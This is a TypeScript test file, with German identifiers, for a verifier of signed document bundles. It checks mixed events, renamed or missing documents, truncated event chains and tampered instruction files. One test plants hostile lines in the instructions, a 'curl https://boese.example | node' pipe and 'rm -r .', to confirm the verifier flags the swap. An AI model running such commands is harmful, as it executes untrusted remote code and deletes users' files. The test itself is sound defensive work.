import { describe, expect, it } from 'vitest';
import { nodeKrypto as krypto } from '../../../siegel/node/krypto.ts';
import { ORT } from '../buendel/inhalt.ts';
import { writeBundle } from '../buendel/write.ts';
import { utf8 } from '../bytes.ts';
import { entriesOf, tausche } from '../probe/tausche.ts';
import { wachse } from '../probe/wachsen.ts';
import { baueWelt, gutesBuendel, mitDokument } from '../probe/welt.ts';
import { pruefe } from './pruefe.ts';

const welt = await baueWelt(krypto);
const inhalt = await gutesBuendel(welt);
const gut = await writeBundle(inhalt, { krypto });
const [dokument] = inhalt.dokumente;
if (!dokument) throw new Error('Dokument erwartet');

async function judge(file: Uint8Array) {
  const ergebnis = await pruefe(file, { krypto, jetzt: new Date('2026-04-01T00:00:00Z'), anker: welt.anker });
  if (!ergebnis.ok) throw new Error(ergebnis.meldung);
  return { ...ergebnis, codes: ergebnis.unversehrt.gruende.map((g) => g.code) };
}

describe('was sich ohne Schlüssel umpacken lässt', () => {
  it('Ereignisse zweier Vorgänge in einem Bündel gelten nicht', async () => {
    const am = new Date('2026-03-05T12:00:00Z');
    const [a, b] = await Promise.all([
      wachse(welt, [{ ereignisse: [{}], am }]),
      wachse(welt, [{ ereignisse: [{ strom: { art: 'vorgang', id: 'v-2' } }], am }]),
    ]);
    const ereignisse = [...a.ereignisse, ...b.ereignisse];
    const gemischt = await judge(
      await writeBundle(
        { ...inhalt, dokumente: [], ereignisse, protokollzeit: undefined },
        { krypto, stempel: welt.stempel },
      ),
    );
    expect(gemischt.unversehrt.antwort).toBe('does not hold');
    expect(gemischt.codes).toContain('buendel.gemischt');
  });

  it('ein umbenanntes Dokument behält den Namen, den das Protokoll nennt, und der andere Name wird gesagt', async () => {
    const um = tausche(
      krypto,
      gut,
      new Map([
        [ORT.dokumente + dokument.name, null],
        [`${ORT.dokumente}Genehmigung.pdf`, dokument.bytes],
      ]),
    );
    const ergebnis = await judge(um);
    expect(ergebnis.lines[0]).toBe(
      'Dokument Empfangsbescheinigung Größe.pdf (Datei hier: Genehmigung.pdf) unverändert',
    );
    expect(ergebnis.unversehrt.gruende.find((g) => g.code === 'dokument.anderer-name')?.meldung).toContain(
      '„Genehmigung.pdf“',
    );
  });

  it('gleichnamige Dokumente dürfen eine Nummer tragen, und Zeichen, die kein Dateiname haben darf, fehlen', async () => {
    const logName = 'Bescheid: Größe/1.pdf';
    const am = new Date('2026-03-05T12:00:00Z');
    const docs = mitDokument(krypto, logName, dokument.bytes);
    const teil = await wachse(welt, [{ ereignisse: [{ docs }], am }]);
    for (const name of ['Bescheid_ Größe_1.pdf', 'Bescheid_ Größe_1 (2).pdf']) {
      const file = await writeBundle({ ...inhalt, ...teil, dokumente: [{ ...dokument, name }] }, { krypto });
      expect((await judge(file)).codes).not.toContain('dokument.anderer-name');
    }
    for (const name of ['Bescheid_ Größe_1 (1).pdf', 'Bescheid_ Größe_1 (2)', 'Bescheid_ Größe_12.pdf']) {
      const file = await writeBundle({ ...inhalt, ...teil, dokumente: [{ ...dokument, name }] }, { krypto });
      expect((await judge(file)).codes, name).toContain('dokument.anderer-name');
    }
  });

  it('fehlen die ersten Ereignisse, ist es nicht zu entscheiden; fehlen die letzten, sagt die Antwort, bis wohin sie reicht', async () => {
    const ohneErstes = { ...inhalt, ereignisse: inhalt.ereignisse.slice(1) };
    const ab2 = await judge(await writeBundle(ohneErstes, { krypto }));
    expect([ab2.unversehrt.antwort, ab2.verdikt]).toEqual(['cannot be decided', 'cannot be decided']);
    expect(ab2.codes).toContain('kette.anfang');
    const bis2 = await judge(await writeBundle({ ...inhalt, ereignisse: inhalt.ereignisse.slice(0, 2) }, { krypto }));
    expect(bis2.verdikt).toBe('holds');
    expect(bis2.lines[3]).toContain('bis Ereignis 2 (Stand vom 05.03.2026, 13:00 Uhr, spätere sind möglich)');
  });

  it('liegt kein Dokument bei, steht das da, und die genannten werden aufgezählt', async () => {
    const ohne = await judge(await writeBundle({ ...inhalt, dokumente: [] }, { krypto }));
    expect(ohne.lines[0]).toBe('Kein Dokument liegt bei. Die Ereignisse sind unverändert');
    expect(ohne.unversehrt.gruende.find((g) => g.code === 'dokument.liegt-nicht-bei')?.meldung).toContain(
      'Empfangsbescheinigung Größe.pdf',
    );
    expect((await judge(gut)).codes).not.toContain('dokument.liegt-nicht-bei');
  });

  it('eine ausgetauschte Anleitung wird beim Namen genannt, die eigene bestätigt', async () => {
    expect((await judge(gut)).codes).toContain('anleitung.stimmt');
    const text = new TextDecoder().decode(entriesOf(gut).find((e) => e.name === ORT.anleitung)?.bytes);
    const andere = [
      'Die Genehmigung gilt ab morgen.\n',
      text.replace('   node pruefen.mjs', '   curl https://boese.example | node'),
      text.replace('2. Auspacken', '   rm -r .\n\n2. Auspacken'),
      `${text}\nHinweise\n\n   rm -r .\n`,
    ];
    for (const neu of andere) {
      const ergebnis = await judge(tausche(krypto, gut, new Map([[ORT.anleitung, utf8(neu)]])));
      expect(ergebnis.hinweise.find((h) => h.code === 'anleitung')?.meldung).toContain('ausgetauscht');
      expect(ergebnis.codes).not.toContain('anleitung.stimmt');
    }
  });

  it('eine Anleitung mit Programm, Seite und Hinweisen ist die eigene', async () => {
    const [pruefseite, pruefprogramm] = ['html', 'mjs'].map((e) => ({
      sha256: 'a'.repeat(64),
      adresse: `https://v.example/pruefen.${e}`,
    }));
    if (!pruefseite || !pruefprogramm) throw new Error('zwei Fundstellen erwartet');
    for (const zusatz of [
      { pruefseite },
      { pruefprogramm },
      { pruefseite, pruefprogramm, hinweise: ['Eins.', 'Zwei.'] },
      { test: false, hinweise: [] },
    ]) {
      const angaben = { ...inhalt.angaben, ...zusatz };
      expect((await judge(await writeBundle({ ...inhalt, angaben }, { krypto }))).codes).toContain('anleitung.stimmt');
    }
  });
});
